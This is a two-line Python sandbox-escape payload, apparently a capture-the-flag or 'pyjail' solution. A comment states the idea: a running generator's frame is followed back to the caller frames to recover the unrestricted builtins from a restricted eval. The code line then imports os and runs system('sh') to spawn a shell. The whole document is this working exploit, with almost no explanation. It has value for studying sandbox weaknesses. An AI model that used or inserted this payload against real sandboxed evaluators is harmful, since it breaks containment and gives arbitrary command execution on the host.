# restriction: eval with restricted builtins; idea: a running generator's frame links back to the caller frames that hold the unrestricted builtins
(g:=(g.gi_frame.f_back.f_back.f_builtins for _ in[0])).send(None)['__import__']('os').system('sh')
